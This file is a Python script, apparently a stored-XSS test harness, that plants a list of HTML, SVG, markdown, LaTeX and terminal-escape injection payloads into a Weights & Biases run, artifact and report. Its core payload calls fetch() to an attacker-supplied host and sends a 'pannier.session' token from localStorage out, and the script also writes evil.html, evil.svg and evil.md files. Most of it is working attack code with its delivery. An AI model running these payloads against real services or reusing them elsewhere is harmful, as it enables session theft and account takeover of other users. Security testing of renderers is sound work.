"""What somebody writes who would like to run a script in the reader's page.

hostile.py ELSEWHERE: an address that nobody may be asked at."""

import sys

import wandb
import wandb_workspaces.reports.v2 as wr
from telling import tell

elsewhere = sys.argv[1]
STEAL = f"window.pwned=1;try{{parent.pwned=1;top.pwned=1;fetch('{elsewhere}/'+parent.localStorage['pannier.session'])}}catch(e){{}};fetch('{elsewhere}/out')"
PAYLOADS = [
    f"<script>{STEAL}</script>",
    f"<img src=x onerror=\"{STEAL}\">",
    f"<svg onload=\"{STEAL}\"><animate onbegin=\"{STEAL}\" attributeName=x></svg>",
    f"<iframe srcdoc=\"<script>{STEAL}</script>\"></iframe>",
    f"<a href=\"javascript:{STEAL}\">click</a>",
    f"<form action='{elsewhere}/form'><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={elsewhere}/meta'>",
    f"<link rel=stylesheet href='{elsewhere}/style.css'>",
    f"<style>@import '{elsewhere}/import.css'; body{{background:url({elsewhere}/bg)}}</style>",
    f"<base href='{elsewhere}/'>",
    f"<object data='{elsewhere}/object'></object><embed src='{elsewhere}/embed'>",
    f"<video><source onerror=\"{STEAL}\"></video><details open ontoggle=\"{STEAL}\">",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror=\"{STEAL}\">",
    f"[link](javascript:{STEAL})",
    f"[link](data:text/html,<script>{STEAL}</script>)",
    f"![picture]({elsewhere}/picture.png)",
    f"[link]: javascript:{STEAL}\n\n[link]",
    f"<{elsewhere}/auto>",
    "`</code><script>window.pwned=1</script>`",
    f"$\\href{{javascript:{STEAL}}}{{x}}$ $$\\includegraphics{{{elsewhere}/tex.png}}$$",
    "\x1b]8;;javascript:window.pwned=1\x07link\x1b]8;;\x07 \x1b[31m<script>window.pwned=1</script>",
]
SVG = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{STEAL}</script><image href='{elsewhere}/svg.png'/></svg>"
PAGE = "".join(PAYLOADS[:13]) + f"<script>{STEAL}</script><p id='frame'>framed</p>"

everything = "\n\n".join(PAYLOADS)
name = "<img src=x onerror=window.pwned=1>"
with wandb.init(project="hostile", name=name, notes=everything, tags=["<b>tag</b>"], config={name: everything}) as run:
    for payload in PAYLOADS:
        print(payload)
    with open("evil.html", "w") as file:
        file.write(PAGE)
    with open("evil.svg", "w") as file:
        file.write(SVG)
    with open("evil.md", "w") as file:
        file.write(everything)
    for file in ["evil.html", "evil.svg", "evil.md"]:
        run.save(file)
    table = wandb.Table(columns=[name], data=[[payload] for payload in PAYLOADS])
    run.log({"loss": 1, "page": wandb.Html(PAGE, inject=False), "table": table, "<script>": 2})
    run.summary["said"] = everything
    artifact = wandb.Artifact("evil", type="model", description=everything, metadata={name: everything})
    artifact.add_file("evil.html")
    artifact.add_file("evil.svg")
    run.log_artifact(artifact).wait()
    report = wr.Report(
        project="hostile",
        entity=run.entity,
        title=name,
        description=everything,
        blocks=[
            *[wr.MarkdownBlock(text=payload) for payload in PAYLOADS],
            *[wr.P(payload) for payload in PAYLOADS],
            wr.H1(name),
            wr.CodeBlock(code=everything, language="python"),
            wr.LatexBlock(text="\\href{javascript:window.pwned=1}{x}"),
            wr.Image(f"{elsewhere}/report.png", caption=name),
            wr.CalloutBlock(text=everything),
            wr.BlockQuote(text=everything),
            wr.PanelGrid(panels=[wr.MarkdownPanel(markdown=everything), wr.LinePlot(title=name, x="Step", y=["loss"])]),
        ],
    )
    report.save()
    tell(entity=run.entity, run=run.id, report=report.url)
